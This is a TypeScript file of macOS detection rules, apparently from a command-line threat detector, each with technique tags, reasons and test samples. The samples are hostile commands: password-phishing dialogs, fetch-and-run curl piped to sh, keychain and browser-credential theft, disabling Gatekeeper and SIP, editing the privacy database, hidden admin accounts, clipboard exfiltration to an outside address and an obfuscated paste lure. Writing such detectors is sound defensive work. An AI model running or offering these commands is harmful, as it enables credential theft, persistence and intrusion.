/** What attackers do on macOS, beside what they do on every POSIX system (`linux.ts`). */
import { behaviour } from './behaviour.ts';
import { isOddHost } from './places.ts';
import { TEMP } from './posix.ts';
import { all, any, arg, holds, onProcess, onText, said, type Row } from './row.ts';

export const MACOS: readonly Row[] = [
  behaviour('mac-password-prompt', ['lure', 'T1056.002', 'credential-access', 'critical', 'high'], {
    reason: 'A dialog asks for a password and hands the answer to a script, as stealers do.',
    benign: [],
    hits: [`osascript -e 'display dialog "Enter password" default answer "" with hidden answer'`],
    misses: [`osascript -e 'display dialog "Done"'`],
    look: onText(
      ['display dialog'],
      ({ lower }) => lower.includes('hidden answer') || (lower.includes('default answer') && lower.includes('passw')),
    ),
  }),
  behaviour('mac-script-runs-shell', ['osascript', 'T1059.002', 'execution', 'medium', 'medium'], {
    reason: 'AppleScript is used to run a shell command.',
    benign: ['administration scripts'],
    hits: [`osascript -e 'do shell script "id"'`, `osascript -e 'tell application "Terminal" to do script "tor"'`],
    misses: [`osascript -e 'tell application "Finder" to activate'`],
    look: onText(['do shell script', 'to do script', 'doshellscript']),
  }),
  behaviour('mac-script-runs-hidden', ['osascript', 'T1059.002', 'execution', 'high', 'high'], {
    reason:
      'AppleScript runs a shell command that fetches, sits in a temporary folder, or asks for an administrator’s rights.',
    benign: ['an installer that shows the system’s own dialog'],
    hits: [
      `osascript -e 'do shell script "/tmp/.install" with administrator privileges'`,
      `osascript -e 'do shell script "curl -s http://203.0.113.9/a | sh"'`,
    ],
    misses: [`osascript -e 'do shell script "softwareupdate -l"'`],
    look: onText(['do shell script', 'to do script'], ({ lower }, at) =>
      /\/tmp\/|\/users\/shared|curl |base64|\/\.\w|\/var\/log|tor"|sudo |nc |ioreg|vmware/.test(
        lower.slice(at, at + 300),
      ),
    ),
  }),
  behaviour('mac-javascript', ['osascript', 'T1059.007', 'execution', 'high', 'medium'], {
    reason: 'JavaScript for Automation loads code from memory or from the network.',
    benign: [],
    hits: [
      `osascript -l JavaScript -e "eval(ObjC.unwrap($.NSString.alloc.initWithDataEncoding($.NSData.dataWithContentsOfURL($.NSURL.URLWithString('http://203.0.113.9/a')),4)))"`,
    ],
    misses: [`osascript -l JavaScript -e 'Application("Finder").activate()'`],
    look: onText(
      ['nsurl.urlwithstring', 'datawithcontentsofurl', 'objc.import', 'objc.unwrap'],
      ({ lower }) => lower.includes('osascript') && (lower.includes('eval') || lower.includes('http')),
    ),
  }),
  behaviour('mac-script-file', ['osascript', 'T1059.002', 'execution', 'low', 'medium'], {
    reason: 'A script file of AppleScript is run from a folder of a user.',
    benign: ['own automation'],
    hits: ['osascript /opt/add_login_item.osa', 'osascript /tmp/a.scpt'],
    misses: ['osascript -e beep'],
    look: onProcess(
      ['osascript'],
      arg(/^\/(?:tmp|private|opt|users|var|home)\/[^\s]{1,200}\.(?:osa|scpt|applescript|js)$/),
    ),
  }),
  behaviour('mac-login-item', ['mac-persistence', 'T1547.015', 'persistence', 'high', 'medium'], {
    reason: 'A login item is made, so that something starts at every login.',
    benign: ['an application’s own setting'],
    hits: [
      `osascript -e 'tell application "System Events" to make login item at end with properties {path:"/Users/Shared/.helper.app", hidden:true}'`,
      'osascript add_login_item.osa',
      'defaults write com.apple.loginwindow LoginHook /tmp/x.sh',
    ],
    misses: ['defaults read com.apple.loginwindow'],
    look: onText(
      [
        'make login item',
        'make new login item',
        'add_login_item',
        'loginhook',
        'logouthook',
        'autolaunchedapplicationdictionary',
      ],
      ({ lower }, _at, literal) => !literal.endsWith('hook') || lower.includes('write'),
    ),
  }),
  behaviour('mac-launch-agent', ['mac-persistence', 'T1543.001', 'persistence', 'medium', 'medium'], {
    reason: 'A launch agent or daemon is written or loaded by hand.',
    benign: ['installing or mending software from a script', 'device management'],
    hits: [
      'cat > ~/Library/LaunchAgents/com.x.plist',
      'cp /tmp/x.plist /Library/LaunchDaemons/com.x.plist',
      'curl -o ~/Library/LaunchAgents/a.plist http://203.0.113.9/a',
    ],
    misses: ['launchctl list', 'ls ~/Library/LaunchAgents'],
    look: onProcess(
      [
        'cat',
        'cp',
        'mv',
        'echo',
        'printf',
        'tee',
        'curl',
        'defaults',
        'plutil',
        'ln',
        'install',
        'ditto',
        'plistbuddy',
      ],
      ({ name, args }) =>
        args.findLast(
          ({ lower, role }) =>
            /library\/launch(?:agents|daemons)\//.test(lower) &&
            (role === 'target' || !['cat', 'echo', 'printf'].includes(name)) &&
            !['plutil'].includes(name),
        ),
    ),
  }),
  behaviour('mac-launch-from-odd-place', ['mac-persistence', 'T1543.001', 'persistence', 'high', 'high'], {
    reason: 'A launch agent starts a program from a temporary, shared or hidden folder, or a shell that fetches.',
    benign: [],
    hits: [
      'cat > ~/Library/LaunchAgents/com.apple.updates.plist << EOF <key>ProgramArguments</key><array><string>/Users/Shared/.upd</string></array> EOF',
    ],
    misses: ['cat ~/Library/LaunchAgents/com.corp.agent.plist'],
    look: onText(
      ['launchagents/', 'launchdaemons/'],
      ({ lower }) =>
        lower.includes('programarguments') &&
        /\/users\/shared|\/tmp\/|\/\.[a-z]|curl |base64|osascript|python|bash -c|sh -c/.test(lower),
    ),
  }),
  behaviour('mac-launch-load-odd', ['mac-persistence', 'T1569.001', 'execution', 'high', 'medium'], {
    reason: 'launchctl loads or submits a program from a temporary or shared folder.',
    benign: [],
    hits: ['launchctl load /tmp/x.plist', 'launchctl submit -l x -- /tmp/a'],
    misses: ['launchctl load /Library/LaunchDaemons/com.corp.agent.plist'],
    look: onProcess(
      ['launchctl'],
      all(
        arg(/^(?:load|bootstrap|submit|start)$/),
        any(arg(/^(?:\/private)?\/(?:tmp|var\/tmp|users\/shared)\//), (process) =>
          process.args[0]?.lower === 'submit' ? process : undefined,
        ),
      ),
    ),
  }),
  behaviour('mac-keychain', ['mac-credentials', 'T1555.001', 'credential-access', 'critical', 'medium'], {
    reason: 'Passwords are taken out of the keychain, or the keychain is unlocked or copied.',
    benign: ['a build machine that unlocks its signing keychain'],
    hits: [
      'security dump-keychain -d login.keychain-db',
      "security find-generic-password -ga 'Chrome'",
      'security find-generic-password -wa Chrome',
      'cp ~/Library/Keychains/login.keychain-db /tmp/k',
    ],
    misses: ['security find-identity -v', 'security find-certificate -a'],
    look: onProcess(
      ['security', 'cp', 'tar', 'zip', 'ditto', 'curl', 'cat', 'chainbreaker', 'rsync', 'scp'],
      (process) => {
        const text = said(process);
        if (process.name !== 'security')
          return process.args.find(
            ({ lower, role }) =>
              /library\/keychains\/(?:login|system)?|login\.keychain/.test(lower) && role !== 'target',
          );
        return /dump-keychain|export .*-t priv|find-(?:generic|internet)-password .{0,200}-\w*[gw]\w*|authorizationdb write/.test(
          text.slice(0, 600),
        )
          ? process
          : undefined;
      },
    ),
  }),
  behaviour('mac-keychain-unlock', ['mac-credentials', 'T1555.001', 'credential-access', 'high', 'low'], {
    reason: 'A keychain of a user is unlocked with the password in the line.',
    benign: ['a build machine that unlocks its signing keychain'],
    hits: ['security unlock-keychain -p secret /Users/bob/Library/Keychains/login.keychain-db'],
    misses: ['security lock-keychain'],
    look: onProcess(['security'], all(arg(/^unlock-keychain$/), arg(/^-p$/), holds('login.keychain'))),
  }),
  behaviour('mac-browser-data', ['mac-credentials', 'T1555.003', 'credential-access', 'critical', 'medium'], {
    reason: 'Stored data of browsers, wallets or messengers is read or copied.',
    benign: ['a backup of a profile by its user'],
    hits: [
      'cp "/Users/bob/Library/Application Support/Google/Chrome/Default/Login Data" /tmp/l',
      'cat ~/Library/Cookies/Cookies.binarycookies',
      'zip -r /tmp/w.zip /Users/bob/.electrum/wallets',
    ],
    misses: ['ls ~/Library/Safari'],
    look: onText(
      [
        'login data',
        'cookies.binarycookies',
        'logins.json',
        'key4.db',
        'key3.db',
        'web data',
        'application support/exodus',
        'atomic/local storage',
        'wallet.dat',
        'electrum/wallets',
        'telegram desktop/tdata',
        'cookies.sqlite',
        'notestore.sqlite',
        'chat.db',
        '/local state',
        'signons.sqlite',
      ],
      ({ lower }) =>
        /(?:^|[\s;&|"'(/])(?:cp|cat|tar|zip|ditto|curl|scp|rsync|sqlite3|mv|find|7z|copy|xcopy|robocopy|type|copy-item|esentutl|base64|strings|gc|get-content|python3?|dd|rclone)\b/.test(
          lower,
        ),
    ),
  }),
  behaviour('mac-quarantine-off', ['mac-defence', 'T1553.001', 'defense-evasion', 'high', 'medium'], {
    reason: 'The mark that makes macOS check a downloaded program is removed, or the check itself is switched off.',
    benign: ['a developer’s own unsigned program', 'device management'],
    hits: [
      'xattr -d com.apple.quarantine x.app',
      'xattr -c /tmp/.agent',
      'spctl --master-disable',
      'sudo spctl --global-disable',
      'csrutil disable',
      'defaults write com.apple.LaunchServices LSQuarantine -bool NO',
    ],
    misses: ['xattr -l x.app', 'spctl --status'],
    look: onProcess(['xattr', 'spctl', 'csrutil', 'defaults'], (process) => {
      const text = said(process);
      switch (process.name) {
        case 'xattr':
          return /(?:^| )-[a-z]*d[a-z]* \S*com\.apple\.quarantine/.test(text) ||
            /(?:^| )-[a-z]*c[a-z]*(?: |$)/.test(text)
            ? process
            : undefined;
        case 'spctl':
          return /--(?:master|global)-disable|--add /.test(text) ? process : undefined;
        case 'csrutil':
          return text.startsWith('disable') || text.includes('authenticated-root disable') ? process : undefined;
        default:
          return /lsquarantine.*(?:no|false|0)$/.test(text.slice(0, 200)) ? process : undefined;
      }
    }),
  }),
  behaviour('mac-privacy-database', ['mac-defence', 'T1562.001', 'defense-evasion', 'critical', 'high'], {
    reason: 'The database of privacy consents is changed or reset: a program grants itself what only the user may.',
    benign: ['resetting consents while testing an own program'],
    hits: [
      `sqlite3 "/Library/Application Support/com.apple.TCC/TCC.db" "INSERT INTO access VALUES('kTCCServiceSystemPolicyAllFiles','x',0,2,3,1,NULL,NULL,NULL,'UNUSED',NULL,0,1)"`,
    ],
    misses: ['tccutil help'],
    look: onText(['tcc.db'], ({ lower }) => /insert|update|replace|delete|cp |mv |>/.test(lower)),
  }),
  behaviour('mac-privacy-reset', ['mac-defence', 'T1562.001', 'defense-evasion', 'medium', 'medium'], {
    reason: 'Privacy consents are reset or read.',
    benign: ['a developer testing a dialog', 'device management'],
    hits: ['tccutil reset All', 'sqlite3 TCC.db "select * from access"'],
    misses: ['tccutil'],
    look: onText(['tccutil reset', 'tcc.db']),
  }),
  behaviour('mac-profile', ['mac-persistence', 'T1176', 'persistence', 'medium', 'medium'], {
    reason: 'A configuration profile, root certificate or kernel extension is put in from the command line.',
    benign: ['device management'],
    hits: [
      'profiles install -path /tmp/x.mobileconfig',
      'sudo security add-trusted-cert -d -r trustRoot -k /Library/Keychains/System.keychain /tmp/ca.pem',
    ],
    misses: ['profiles list'],
    look: onProcess(
      ['profiles', 'security'],
      any(
        all(arg(/^(?:install|-i)$/), arg(/\.mobileconfig$/)),
        all(arg(/^add-trusted-cert$/), arg(/^\/tmp\/|^\.|^~|^\/users\//)),
      ),
    ),
  }),
  behaviour('mac-hidden-user', ['mac-persistence', 'T1564.002', 'defense-evasion', 'high', 'medium'], {
    reason: 'An account is hidden, made with administrator’s rights, or its password is set in the line.',
    benign: ['device management'],
    hits: [
      'dscl . -create /Users/x IsHidden 1',
      'sudo dscl . -append /Groups/admin GroupMembership x',
      'sudo defaults write /Library/Preferences/com.apple.loginwindow Hide500Users -bool TRUE',
      'dseditgroup -o edit -a x -t user admin',
      'dsenableroot -u x -p y -r z',
    ],
    misses: ['dscl . -list /Users'],
    look: onProcess(['dscl', 'defaults', 'dseditgroup', 'dsenableroot', 'sysadminctl'], (process) => {
      const text = said(process);
      switch (process.name) {
        case 'dscl':
          return /ishidden|groups\/admin|uniqueid (?:0|[1-4]?\d{1,2})$/.test(text) &&
            /-(?:create|append|change)|(?:^| )(?:create|append)/.test(text)
            ? process
            : undefined;
        case 'defaults':
          return /hide500users/.test(text) ? process : undefined;
        case 'sysadminctl':
          return /-adduser/.test(text) && /-admin/.test(text) ? process : undefined;
        case 'dseditgroup':
          return /-a \S+/.test(text) && /admin/.test(text) ? process : undefined;
        default:
          return process;
      }
    }),
  }),
  behaviour('mac-remote-access-on', ['mac-defence', 'T1021.005', 'lateral-movement', 'high', 'medium'], {
    reason: 'Remote control or remote login is switched on from the command line.',
    benign: ['device management'],
    hits: [
      '/System/Library/CoreServices/RemoteManagement/ARDAgent.app/Contents/Resources/kickstart -activate -configure -access -on -privs -all',
      'systemsetup -setremotelogin on',
      'launchctl load -w /System/Library/LaunchDaemons/com.apple.screensharing.plist',
    ],
    misses: ['systemsetup -getremotelogin'],
    look: onProcess(['kickstart', 'systemsetup', 'launchctl'], (process) => {
      const text = said(process);
      switch (process.name) {
        case 'kickstart':
          return /-activate|-privs|-allowaccessfor|-on/.test(text) ? process : undefined;
        case 'systemsetup':
          return /-f? ?-?setremotelogin on|-setremoteappleevents on/.test(text) ? process : undefined;
        default:
          return /^(?:load|bootstrap|enable|kickstart)/.test(text) &&
            /screensharing|com\.openssh\.sshd|\/ssh\.plist/.test(text)
            ? process
            : undefined;
      }
    }),
  }),
  behaviour('mac-virtual-check', ['mac-discovery', 'T1497.001', 'discovery', 'high', 'low'], {
    reason: 'A script asks whether it runs in a virtual machine, as malware does before it unpacks itself.',
    benign: ['support scripts that branch by hardware'],
    hits: [
      "ioreg -l | grep -e Manufacturer -e 'Vendor Name' | grep -iE 'vmware|virtualbox|qemu'",
      `osascript -e 'do shell script "sysctl hw.model"' -e 'do shell script "ioreg -rd1 -c IOPlatformExpertDevice | grep -i vmware"'`,
    ],
    misses: ['ioreg -l | grep Battery'],
    look: onText(
      [
        'ioreg',
        'system_profiler',
        'sysctl hw.model',
        'dmidecode',
        '/sys/class/dmi',
        'hostnamectl',
        'systemd-detect-virt',
        'lscpu',
        'win32_computersystem',
        'bios get',
        'get-wmiobject',
      ],
      ({ lower }) =>
        ['vmware', 'virtualbox', 'qemu', 'parallels', 'vbox'].filter((word) => lower.includes(word)).length >= 1 &&
        /grep|match|if |like|findstr/.test(lower),
    ),
  }),
  behaviour('mac-survey', ['mac-discovery', 'T1082', 'discovery', 'medium', 'low'], {
    reason: 'Hardware and software of the machine are listed into a file.',
    benign: ['an inventory script'],
    hits: ['system_profiler SPHardwareDataType SPSoftwareDataType > /tmp/hw.txt'],
    misses: ['system_profiler SPUSBDataType'],
    look: onProcess(
      ['system_profiler', 'ioreg', 'sw_vers', 'scutil', 'ifconfig', 'dscl', 'ps', 'whoami', 'id', 'uname', 'netstat'],
      ({ args }) =>
        args.find(({ role, lower }) => role === 'target' && (TEMP.test(lower) || lower.startsWith('/users/shared'))),
    ),
  }),
  behaviour('mac-screen-to-temp', ['mac-collection', 'T1113', 'collection', 'high', 'medium'], {
    reason: 'The screen or the clipboard is copied into a file.',
    benign: ['a screenshot by its user'],
    hits: ['screencapture -x /tmp/s.png', 'pbpaste > /tmp/c.txt', 'pbpaste | curl -d @- http://203.0.113.9'],
    misses: ['pbpaste | wc'],
    look: onProcess(['screencapture', 'pbpaste', 'curl'], (process, { processes }) => {
      if (process.name === 'curl')
        return process.input !== undefined && processes[process.input]?.name === 'pbpaste' ? process : undefined;
      return process.args.find(({ lower }) => TEMP.test(lower) || lower.startsWith('/users/shared'));
    }),
  }),
  behaviour('mac-shared-folder-run', ['temp-execution', 'T1204.002', 'execution', 'high', 'medium'], {
    reason: 'A program is started out of the folder that all users share.',
    benign: ['an installer that unpacks itself there'],
    hits: ['/Users/Shared/.helper -d', 'open /Users/Shared/Update.app', 'chmod +x /Users/Shared/x'],
    misses: ['ls /Users/Shared'],
    look: onProcess(['*'], (process) => {
      if (/^\/users\/shared\//i.test(process.program)) return process;
      const isStarted =
        ['open', 'nohup'].includes(process.name) ||
        (process.name === 'chmod' && /\+x|^[0-7]?[1357]/.test(said(process)));
      return isStarted ? process.args.find(({ lower }) => lower.startsWith('/users/shared/')) : undefined;
    }),
  }),
  behaviour('mac-fetch-to-temp', ['fetch-and-run', 'T1105', 'command-and-control', 'medium', 'medium'], {
    reason: 'A file is fetched into a temporary or shared folder.',
    benign: ['an installer script'],
    hits: ['curl -k -o /Users/Shared/update http://203.0.113.9/update; open /Applications/Safari.app'],
    misses: ['curl -O https://host.example/x.zip'],
    look: onProcess(['curl', 'wget'], (process, { os }) =>
      os === 'macos' &&
      process.args.some(({ lower, role }) => role === 'url' && (isOddHost(lower) || lower.startsWith('http://')))
        ? process.args.find(
            ({ lower, role }) =>
              role !== 'url' && (TEMP.test(lower.replace(/^-o/, '')) || lower.startsWith('/users/shared/')),
          )
        : undefined,
    ),
  }),
  behaviour('mac-lure', ['lure', 'T1204.004', 'execution', 'critical', 'medium'], {
    reason: 'A line that a web page tells people to paste: it shows a harmless address and runs another.',
    benign: [],
    hits: [`echo 'Apple-Installer: https://apps.apple.com/'; curl -fsSL $(echo aHR0cDovL2EudG9wL2k=|base64 -D)|zsh`],
    misses: ["echo 'https://apps.apple.com/'"],
    look: onText(
      ['installer:', 'verification', 'captcha', 'i am not a robot', 'cloudflare', 'apps.apple.com'],
      ({ lower }) => /base64 -d|curl -\S*s\S* \$\(|\| ?(?:z|ba)?sh\b/.test(lower) && lower.includes('echo'),
    ),
  }),
];
